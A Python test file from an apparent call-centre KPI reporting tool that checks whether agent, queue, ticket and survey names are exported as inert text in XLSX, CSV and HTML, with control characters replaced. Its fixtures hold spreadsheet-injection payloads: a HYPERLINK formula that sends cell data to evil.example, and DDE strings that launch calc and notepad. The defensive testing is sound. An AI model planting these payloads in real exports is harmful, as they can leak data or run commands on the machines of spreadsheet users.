"""Names from the data are text in every export: never a formula, never a control character.

A queue, agent, work order or survey factor is named by whoever sends the events. A name such as
``=HYPERLINK("http://…"&A1,"…")`` must not become a live formula in the manager's spreadsheet
(OWASP, CSV injection), and one control character must not break the month's workbook
(openpyxl's ``IllegalCharacterError``) or reach the printed page. The decoder refuses control
characters in ids, but stores written before that, and free text, may hold them: the
control-character store is therefore altered in SQLite after the replay, as an older store was.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from hotline_kpi.config import load_settings
from hotline_kpi.metrics.export import KpiFigures, csv_text, to_csv
from hotline_kpi.metrics.store import open_store
from hotline_kpi.reports import build_report
from hotline_kpi.reports.html import render_html
from hotline_kpi.reports.xlsx import write_xlsx
from tests.conftest import make_event
from tests.support.reports import replay_events

MONTH = "2026-10"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
FORMULA_NAMES = {
    "queue": LINK,
    "agents": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "#N/A"],
    "ticket": "=1+1",
    "factor": "=cmd|' /C notepad'!A1",
}
# Anything a spreadsheet reads as a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _month_events(queue: str, agents: list[str], ticket: str, factor: str) -> list[dict[str, Any]]:
    """Answered calls in October, a survey with a factor and a review each, an overdue ticket."""
    events: list[dict[str, Any]] = []
    for index, agent in enumerate(agents):
        call = f"c{index}"
        day = f"2026-10-{10 + index:02d}"
        events += [
            make_event("call.offered", f"{day}T02:00:00Z", call_id=call),
            make_event("call.queued", f"{day}T02:00:01Z", call_id=call, queue=queue),
            make_event(
                "call.answered", f"{day}T02:00:09Z", call_id=call, queue=queue, agent_id=agent
            ),
            make_event("call.ended", f"{day}T02:03:00Z", call_id=call, cause="customer_hangup"),
            make_event(
                "survey.answered",
                f"{day}T02:05:00Z",
                call_id=call,
                score=9,
                factors={factor: 7, "attitude": 9},
            ),
            make_event(
                "qa.reviewed", f"{day}T03:00:00Z", call_id=call, agent_id=agent, accurate=True
            ),
        ]
    events.append(
        make_event(
            "ticket.opened",
            "2026-10-11T01:00:00Z",
            ticket_id=ticket,
            due="2026-10-12T01:00:00Z",
            kind="complaint",
            queue=queue,
        )
    )
    # Moves "now" past the ticket's due time: it is settled, and overdue.
    events.append(make_event("call.offered", "2026-10-28T01:00:00Z", call_id="later"))
    return events


def _report(store: Path) -> dict[str, Any]:
    settings = load_settings(None, store=str(store))
    opened = open_store(str(store))
    try:
        return build_report(KpiFigures(opened, settings), MONTH)
    finally:
        opened.close()


@pytest.fixture(scope="module")
def formula_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    store = tmp_path_factory.mktemp("formulas") / "s.db"
    names = FORMULA_NAMES
    replay_events(
        _month_events(names["queue"], names["agents"], names["ticket"], names["factor"]), store
    )
    return _report(store)


@pytest.fixture(scope="module")
def control_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    store = tmp_path_factory.mktemp("controls") / "s.db"
    replay_events(_month_events("billing", ["A1", "A2"], "T1", "waiting"), store)
    # An older store, written before the decoder refused control characters in ids.
    with sqlite3.connect(store) as db:
        db.execute("UPDATE calls SET queue = ? WHERE queue = 'billing'", ("bill\x01ing",))
        db.execute("UPDATE calls SET agent_id = ? || agent_id WHERE agent_id > ''", ("A\x01",))
        db.execute("UPDATE reviews SET agent_id = ? || agent_id", ("A\x01",))
        db.execute("UPDATE tickets SET ticket_id = ?, queue = ?", ("T\x00\x1b1", "bill\x01ing"))
        db.execute("UPDATE surveys SET factors = REPLACE(factors, 'waiting', 'wait\\u0007ing')")
        # Older than the rollups too: the export reads the facts.
        db.execute("DELETE FROM rollups")
        db.execute("DELETE FROM meta WHERE key = 'rollups'")
    return _report(store)


def _cells(book_bytes: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(book_bytes))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_names_that_look_like_formulas_are_text_cells_in_the_xlsx(
    formula_report: dict[str, Any],
) -> None:
    data = write_xlsx(formula_report, "en")
    cells = _cells(data)
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    # The only formulas are the workbook's own share columns (Satisfaction sheet, lost calls).
    own = ("=IF(SUM(B$", "=IF(B$")
    assert formulas and all(value.startswith(own) for value in formulas), formulas
    names = [FORMULA_NAMES["queue"], FORMULA_NAMES["ticket"], *FORMULA_NAMES["agents"]]
    names.append(FORMULA_NAMES["factor"])
    for name in names:
        found = [cell for cell in cells if cell.value == name]
        assert found, name
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found), name
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
    written = [f for sheet in sheets for f in re.findall(r"<f>([^<]*)</f>", sheet)]
    assert len(written) == len(formulas) and not any("HYPERLINK" in f for f in written)


def test_names_that_look_like_formulas_are_escaped_in_the_csv(
    formula_report: dict[str, Any],
) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(formula_report))))
    names = {row["name"] for row in rows}
    assert "'" + LINK in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names and "'+1+1" in names
    assert "#N/A" in names  # not a formula character: left as it is
    assert not any(name.startswith(TRIGGERS) for name in names)
    assert csv_text("-3") == "'-3" and csv_text("\tx") == "\ufffdx"  # no tab left
    assert csv_text("A1023") == "A1023"


def test_a_control_character_in_a_name_does_not_break_the_xlsx(
    control_report: dict[str, Any],
) -> None:
    assert control_report["agents"][0]["agent_id"] == "A\x01A1"  # the JSON keeps the exact id
    cells = _cells(write_xlsx(control_report, "zh"))
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not any(CONTROL.search(text) for text in texts)
    for shown in ("A\ufffdA1", "A\ufffdA2", "bill\ufffding", "T\ufffd\ufffd1", "wait\ufffding"):
        assert shown in texts, shown


def test_a_control_character_in_a_name_reaches_neither_csv_nor_page(
    control_report: dict[str, Any],
) -> None:
    text = to_csv(control_report)
    assert not CONTROL.search(text)
    assert "A\ufffdA1" in text and "bill\ufffding" in text
    for lang in ("zh", "en"):
        page = render_html(control_report, lang, charts={})
        assert not CONTROL.search(page)
        assert "A\ufffdA2" in page and "T\ufffd\ufffd1" in page
